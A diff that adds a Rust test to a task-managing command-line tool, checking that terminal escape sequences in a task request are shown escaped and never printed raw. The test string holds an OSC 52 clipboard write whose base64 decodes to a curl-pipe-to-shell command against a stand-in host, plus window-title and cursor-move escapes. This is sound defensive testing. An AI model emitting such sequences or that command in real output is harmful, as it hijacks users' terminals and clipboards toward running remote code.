@@ -291,3 +291,21 @@ fn the_account_and_a_tasks_limits_are_managed_from_the_command_line() {
     assert!(env.fails(&["budget", "task", &id, "--max-steps", "many"]).starts_with("error: invalid step limit `many`"));
     assert_eq!(env.fails(&["finding", "resolve", &id, "f1"]), format!("error: task {id} has no finding `f1`"));
 }
+
+/// A request (the model's words, a tool's output would do as well) that carries terminal escapes:
+/// OSC 52 to set the clipboard, a window title, a cursor move and C1's CSI. The text commands show
+/// them as escapes; nothing of them reaches the terminal raw.
+#[test]
+fn control_characters_from_a_task_never_reach_the_terminal_raw() {
+    let env = Env::new();
+    let hostile = "Fix it\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2A\u{9b}31m done";
+    let id = env.create(hostile)["id"].as_str().unwrap().to_owned();
+    for args in [vec!["task", "list"], vec!["task", "show", id.as_str()], vec!["log", id.as_str()]] {
+        let (ok, stdout, stderr) = env.run(&args);
+        assert!(ok, "baton {args:?}: {stderr}");
+        assert!(!stdout.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "baton {args:?} printed {stdout:?}");
+        assert!(stdout.contains("\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}"), "baton {args:?} hid it: {stdout}");
+    }
+    // JSON keeps the text exactly (escaped by JSON itself).
+    assert_eq!(env.ok_json(&["task", "show", &id])["spec"]["request"], hostile);
+}
